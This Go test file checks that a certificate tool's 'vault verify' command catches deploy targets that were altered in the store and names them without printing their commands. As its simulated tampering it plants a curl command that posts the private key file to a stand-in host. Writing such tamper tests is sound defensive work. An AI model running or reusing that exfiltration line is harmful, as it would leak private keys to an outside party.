package vaultops_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/certctl/certctl/internal/clitest"
	"github.com/certctl/certctl/internal/pgtest"
	"github.com/certctl/certctl/pkg/deploy"
	"github.com/certctl/certctl/pkg/errs"
	"github.com/certctl/certctl/pkg/localstore"
	"github.com/certctl/certctl/pkg/service/vaultops"
)

// TestVerifyDeployTargetSeals: vault verify judges this host's deploy
// targets as renew --due does before installing them (review: a target
// whose record was changed in the store was refused by the next pass
// while verify said all was well). A target of this host changed in the
// store fails verify (exit 6), named by its certificate and its files,
// never by its command; untouched, and beside another host's target
// (whose seal this host cannot judge), verify passes; a vault directory
// that never deployed has nothing to judge and gets no identity from
// verify.
func TestVerifyDeployTargetSeals(t *testing.T) {
	for _, db := range []string{"sqlite", "postgres"} {
		t.Run(db, func(t *testing.T) {
			e := clitest.New(t)
			if db == "postgres" {
				e.Vars["CERTCTL_STORE"] = pgtest.FreshSchema(t)
				e.Vars["CERTCTL_HOOKS_ALLOW_EXEC"] = "true"
			}
			testVerifyDeployTargetSeals(t, e)
		})
	}
}

func testVerifyDeployTargetSeals(t *testing.T, e *clitest.Env) {
	arn := requestPrivate(e, "sealed.internal")
	id := arn[strings.LastIndex(arn, "/")+1:]
	verifyOK(t, e)
	if _, err := os.Stat(filepath.Join(e.Vault, deploy.HostKeyFile)); !os.IsNotExist(err) {
		t.Fatalf("verify made a host key, or there was one before any deploy: %v", err)
	}

	certFile, keyFile := filepath.Join(e.Dir, "tls", "app.crt"), filepath.Join(e.Dir, "tls", "app.key")
	if err := os.MkdirAll(filepath.Dir(certFile), 0o700); err != nil {
		t.Fatal(err)
	}
	const secret = "reload-token-s3cr3t"
	mustRun(e, "deploy", arn, "--cert-file", certFile, "--key-file", keyFile, "--exec", "true "+secret, "-o", "json")
	verifyOK(t, e)

	// The store's targets of the certificate, read and rewritten as
	// another host or a hand in the database would.
	edit := func(fn func(ts []deploy.Target) []deploy.Target) {
		t.Helper()
		withVault(t, e, "", func(v *localstore.Vault) error {
			return v.Store.Update(context.Background(), func(tx localstore.Tx) error {
				ts, err := deploy.Targets(tx, id)
				if err != nil {
					return err
				}
				data, err := json.Marshal(fn(ts))
				if err != nil {
					return err
				}
				return tx.PutObject(&localstore.Object{Kind: deploy.ObjectKind, ID: id, Data: data, UpdatedAt: e.Now()})
			})
		})
	}
	var original []deploy.Target
	// Another host's target, sealed with a key this host does not hold:
	// not this host's to judge.
	edit(func(ts []deploy.Target) []deploy.Target {
		original = append([]deploy.Target(nil), ts...)
		other := ts[0]
		other.HostID, other.Host, other.Seal = "0b6c8f7e-0000-4000-8000-000000000001", "web2", "not-a-seal-this-host-can-check"
		other.Exec = "true other-host " + secret
		return append(ts, other)
	})
	verifyOK(t, e)

	// This host's target with its command changed in the store.
	edit(func(ts []deploy.Target) []deploy.Target {
		for i := range ts {
			if ts[i].HostID == original[0].HostID {
				ts[i].Exec = "curl -d @" + keyFile + " http://example.test/ " + secret
			}
		}
		return ts
	})
	rep, r := verify(t, e)
	wantCode(t, r, errs.ExitVaultUnavailable)
	if len(rep.Problems) != 1 {
		t.Fatalf("want one problem, the altered target:\n%v", r)
	}
	p := rep.Problems[0]
	if p.Check != vaultops.CheckDeployTarget || p.Resource != arn ||
		!strings.Contains(p.Message, "cert file "+certFile) || !strings.Contains(p.Message, "key file "+keyFile) ||
		!strings.Contains(p.Message, "not sealed by its host.key") {
		t.Errorf("problem %+v, want a %s problem of %s naming %s and %s", p, vaultops.CheckDeployTarget, arn, certFile, keyFile)
	}
	for _, out := range []string{r.Stdout, r.Stderr, run(e, "vault", "verify").Stdout} {
		if strings.Contains(out, secret) || strings.Contains(out, "curl") {
			t.Errorf("verify printed a deploy command:\n%s", out)
		}
	}
	// renew --due refuses the same target: verify said what the pass does.
	rr := run(e, "renew", "--due", "--within", "400d", "-o", "json")
	if !strings.Contains(rr.Stdout, "not sealed by its host.key") {
		t.Errorf("renew --due did not refuse the target verify named:\n%v", rr)
	}

	// Its files changed instead: likewise.
	edit(func([]deploy.Target) []deploy.Target {
		ts := append([]deploy.Target(nil), original...)
		ts[0].KeyFile = filepath.Join(e.Dir, "elsewhere.key")
		return ts
	})
	rep, r = verify(t, e)
	wantCode(t, r, errs.ExitVaultUnavailable)
	if len(rep.Problems) != 1 || rep.Problems[0].Check != vaultops.CheckDeployTarget ||
		!strings.Contains(rep.Problems[0].Message, "key file "+filepath.Join(e.Dir, "elsewhere.key")) {
		t.Errorf("a target whose key file changed: %+v", rep.Problems)
	}

	// Put back as this host recorded it: sound again.
	edit(func([]deploy.Target) []deploy.Target { return original })
	verifyOK(t, e)

	// host.key lost, host.id kept: the next pass would make a new key and
	// refuse every target of this host, so verify says so now (a problem
	// of the identity) and makes no key itself.
	keyPath := filepath.Join(e.Vault, deploy.HostKeyFile)
	hostKey, err := os.ReadFile(keyPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(keyPath); err != nil {
		t.Fatal(err)
	}
	rep, r = verify(t, e)
	wantCode(t, r, errs.ExitVaultUnavailable)
	if len(rep.Problems) != 1 || rep.Problems[0].Check != vaultops.CheckDeployTarget ||
		!strings.Contains(rep.Problems[0].Message, keyPath) || !strings.Contains(rep.Problems[0].Message, "missing") {
		t.Errorf("host.key missing beside host.id: %+v", rep.Problems)
	}
	if _, err := os.Stat(keyPath); !os.IsNotExist(err) {
		t.Errorf("verify made a host key: %v", err)
	}
	if err := os.WriteFile(keyPath, hostKey, 0o600); err != nil {
		t.Fatal(err)
	}
	verifyOK(t, e)
}
